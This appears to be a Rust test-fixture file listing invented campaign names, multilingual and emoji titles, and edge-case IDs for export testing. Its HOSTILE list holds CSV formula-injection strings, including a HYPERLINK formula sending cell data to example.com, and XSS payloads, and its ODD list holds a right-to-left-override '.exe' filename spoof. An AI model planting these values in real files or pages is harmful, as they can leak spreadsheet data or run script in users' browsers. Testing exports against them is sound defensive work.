//! What the campaigns of the made-up workspace are called. No name is a person's.

/// What an ordinary campaign is about.
pub const THEMES: [&str; 22] = [
    "Payment reminder",
    "Policy renewal",
    "EMI due notice",
    "Appointment confirmation",
    "Delivery feedback",
    "Lapsed customers",
    "KYC update",
    "Premium overdue",
    "Webinar invitation",
    "Trial ending",
    "Service due",
    "Loan offer",
    "Satisfaction survey",
    "Abandoned cart",
    "Onboarding call",
    "Warranty expiry",
    "Festive offer",
    "Address check",
    "Card activation",
    "Missed visit",
    "Subscription win-back",
    "Event reminder",
];

/// Whom it goes to.
pub const GROUPS: [&str; 16] = [
    "North",
    "South",
    "East",
    "West",
    "Mumbai",
    "Pune",
    "Bengaluru",
    "Delhi NCR",
    "tier 2 cities",
    "gold members",
    "new leads",
    "branch 14",
    "bucket 30+",
    "bucket 60+",
    "wave 1",
    "wave 2",
];

/// Campaigns in other scripts.
pub const SCRIPTS: [&str; 24] = [
    "दिवाली ऑफ़र अभियान",
    "किस्त अनुस्मारक – मार्च",
    "ग्राहक संतुष्टि सर्वेक्षण",
    "नवीनीकरण सूचना (उत्तर)",
    "தமிழ் நினைவூட்டல் அழைப்பு",
    "பொங்கல் சலுகை – சென்னை",
    "கட்டணம் நிலுவை அறிவிப்பு",
    "حملة رمضان 2024",
    "تذكير بالدفع – الرياض",
    "استبيان رضا العملاء (الموجة 2)",
    "סקר שביעות רצון",
    "תזכורת תשלום 30+ יום",
    "חידוש ביטוח – צפון",
    "春节回访活动",
    "续保提醒（第二轮）",
    "客户满意度调查",
    "🎉 New year greetings 🎊",
    "Renewals 🚗💨 wave 2",
    "👩🏽‍💻 Webinar 🇮🇳 invite",
    "📞 Callback queue",
    "Überprüfung Straße – Köln",
    "Relance impayés n° 3 – été",
    "Płatność zaległa – Łódź",
    "Diwali दिवाली 2023 – दूसरी लहर",
];

/// Names that a spreadsheet, a browser or a careless writer of CSV would run or break on.
pub const HOSTILE: [&str; 18] = [
    "=HYPERLINK(\"http://example.com/?x=\"&A1,\"Click\")",
    "=1+2",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab first",
    "\rReturn first",
    "\nLine feed first",
    "＝1+2",
    "＋1",
    "－1",
    "＠SUM(1)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "Q&A call-backs &amp; \"quoted\" 'names'",
    "Renewals, phase 2; north|south",
    "Two lines:\r\nsecond line\nthird",
    "A name that is far too long for one line of a table and goes on and on, beyond what anybody should call a campaign, to see where it is cut and whether the end is still there",
];

/// Further odd names: a direction override, a zero-width space, letters with their marks apart.
pub const ODD: [&str; 5] = [
    "Invoice \u{202e}fdp.exe",
    "Zero\u{200b}width",
    "Re\u{0301}sume\u{0301} check",
    " padded with spaces ",
    "\u{fffd} lost sign",
];

/// Ids that a spreadsheet would change: leading zeros, long digits, a power of ten, dates, a sign first.
pub const IDS: [&str; 8] =
    ["007134", "12345678901234567890", "1E5", "2024-03-01", "00000000000000000042", "3-4", "9E99", "+491500"];
